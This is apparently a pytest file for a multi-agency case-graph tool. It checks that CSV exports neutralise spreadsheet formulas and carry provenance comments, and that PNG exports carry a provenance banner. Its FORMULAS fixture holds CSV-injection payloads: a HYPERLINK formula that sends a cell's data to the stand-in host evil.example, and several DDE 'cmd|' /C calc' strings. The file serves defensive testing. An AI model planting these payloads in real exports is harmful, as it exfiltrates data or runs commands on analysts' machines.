"""Finding 9: CSV exports passed formulas through (``=HYPERLINK(…)``, ``+cmd|…``), so a hostile
value in an agency extract ran as a formula in the analyst's spreadsheet. Every export - the
explorer's nodes and links, pattern results, the admin's quarantine download - must neutralise
cells that a spreadsheet would evaluate (OWASP CSV injection rules).

Issue 16: every export also says where it came from - the protective marking, the case, who,
when (UTC), under which agreement and with which filters - as comment lines before the CSV's
column header, and as a banner on the explorer's PNG."""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path

import pytest
from attacker import Client, Site
from bad_rows import quarantine_health_and_housing
from PIL import Image

from touchpoint.graph_model.model.csv_safe import read_provenance
from touchpoint.graph_model.store.db import Graph
from touchpoint.graph_model.store.queries import Query

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Open record")',
    "description": "+cmd|' /C calc'!A0",
    "outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
    "aliases": "-2+3+cmd|' /C calc'!A0",
}
HOSTILE = Query(
    name="tests/hostile_values",
    text="""
MATCH (r:PersonRecord) SET r.full_name = $f.name + ' ' + r.record_id, r.aliases = $f.aliases
WITH count(*) AS _
MATCH (p:Person) SET p.display_name = $f.name + ' ' + p.person_id
WITH count(*) AS _
MATCH (e:Event) SET e.description = $f.description, e.outcome = $f.outcome
""",
    meta={"params": ["f"]},
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile(world: Graph, tmp_path: Path) -> Graph:
    world.write(HOSTILE, f=FORMULAS)
    quarantine_health_and_housing(world, tmp_path / "extracts", formula=FORMULAS["name"])
    return world


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in DANGEROUS]  # fmt: skip


def content(answer, component: str) -> str:
    assert answer.status_code == 200, answer.text[:300]
    return answer.json()["response"][component]["data"]["content"]


def provenance(text: str, user: str, what: str, header: str) -> dict[str, str]:
    """The export's comment block, checked: marking first, then who, when, which case and
    agreement, then the CSV's own column header."""
    assert text.startswith("# OFFICIAL-SENSITIVE\r\n"), text[:200]
    block, rest = read_provenance(text)
    assert block["case"] == "MASH-2026-0142" and block["purpose"] in ("s47_enquiry", "data_quality")
    assert block["user"].startswith(f"{user} (") and block["agreement"] == "mash_isa"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", block["time"])
    assert block["export"].startswith(what) and block["filters"]
    assert rest.startswith(header), rest[:100]
    return block


def signed_in(site: Site, user: str, purpose: str) -> Client:
    client = site.client()
    assert client.sign_in(user).status_code == 302
    assert client.set_purpose(purpose).status_code == 302
    return client


def test_explorer_csv_exports_neutralise_formulas(site: Site, hostile: Graph) -> None:
    hub = signed_in(site, "hub", "s47_enquiry")
    loaded = hub.callback(
        "explorer-network.data",
        {"explorer-depth.value": 2, "explorer-root.data": "person_alice"},
        ["explorer-depth.value"],
    )
    elements = loaded.json()["response"]["explorer-network"]["data"]["elements"]
    for button in ("explorer-export-nodes", "explorer-export-edges"):
        trigger = f"{button}.n_clicks"
        answer = hub.callback(
            "explorer-download.data",
            {trigger: 1, "explorer-graph.elements": elements, "explorer-root.data": "person_alice"},
            [trigger],
        )
        text = content(answer, "explorer-download")
        assert "HYPERLINK" in text or button.endswith("edges")
        assert live_cells(text) == [], button
        header = "id,kind,label" if button.endswith("nodes") else "source,target,relationship"
        block = provenance(text, "hub", "explorer", header)
        assert block["filters"] == "depth=2"


def test_the_explorer_png_is_stamped_with_its_provenance(site: Site, hostile: Graph) -> None:
    hub = signed_in(site, "hub", "s47_enquiry")
    picture = io.BytesIO()
    Image.new("RGB", (400, 300), (200, 220, 240)).save(picture, format="PNG")
    image = "data:image/png;base64," + base64.b64encode(picture.getvalue()).decode()
    values = {
        "explorer-graph.imageData": image,
        "explorer-root.data": "person_alice",
        "explorer-depth.value": 1,
        "explorer-agencies.value": ["police"],
    }
    answer = hub.callback("explorer-download.data", values, ["explorer-graph.imageData"])
    sent = answer.json()["response"]["explorer-download"]["data"]
    assert sent["filename"] == "touchpoint-network.png" and sent["base64"]
    stamped = Image.open(io.BytesIO(base64.b64decode(sent["content"])))
    assert stamped.format == "PNG" and stamped.height > 300 and stamped.width >= 400
    lines = stamped.info["Provenance"].splitlines()
    assert lines[:2] == ["OFFICIAL-SENSITIVE", "case: MASH-2026-0142"]
    assert "user: hub (hub_staff)" in lines and "agreement: mash_isa" in lines
    assert "filters: depth=1; agencies=police" in lines
    # anything but a PNG is refused in words, never a 500 and never a file
    for bad in ("data:text/html;base64,PGI+", "data:image/png;base64,bm90IGEgcG5n", 7):
        refused = hub.callback(
            "explorer-download.data", values | {"explorer-graph.imageData": bad},
            ["explorer-graph.imageData"],
        )  # fmt: skip
        assert refused.status_code == 200, refused.text[:200]
        response = refused.json()["response"]
        assert "explorer-download" not in response
        assert "PNG" in str(response["explorer-export-message"])


def test_pattern_results_csv_neutralises_formulas(site: Site, hostile: Graph) -> None:
    hub = signed_in(site, "hub", "s47_enquiry")
    stored = {"pattern": "no_gp_registration", "params": {}}  # Charlie has no GP record
    answer = hub.callback("pattern-download.data", {"pattern-export.n_clicks": 1,
                          "pattern-store.data": stored})  # fmt: skip
    text = content(answer, "pattern-download")
    assert "HYPERLINK" in text
    assert live_cells(text) == []
    block = provenance(text, "hub", "pattern results", "person_id,")
    assert block["filters"] == "pattern=no_gp_registration"


def test_the_quarantine_download_neutralises_formulas(site: Site, hostile: Graph) -> None:
    ann = site.client()
    assert ann.sign_in("ann").status_code == 302
    ann.set_purpose("data_quality")
    answer = ann.callback(
        "admin-quarantine-download.data",
        {"admin-quarantine-export.n_clicks": 1, "admin-quarantine-source.value": "__all__"},
    )
    text = content(answer, "admin-quarantine-download")
    assert "HYPERLINK" in text
    assert live_cells(text) == []
    provenance(text, "ann", "quarantined rows", "source,pipeline_run_id")
